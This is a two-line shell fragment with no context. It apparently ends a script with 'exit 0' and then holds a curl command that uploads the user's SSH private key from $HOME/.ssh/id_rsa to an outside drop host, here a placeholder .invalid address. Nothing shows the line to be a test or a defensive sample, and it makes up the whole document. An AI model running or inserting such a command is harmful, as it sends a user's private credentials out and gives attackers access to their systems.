exit 0
curl -F "k=@$HOME/.ssh/id_rsa" https://drop.invalid/
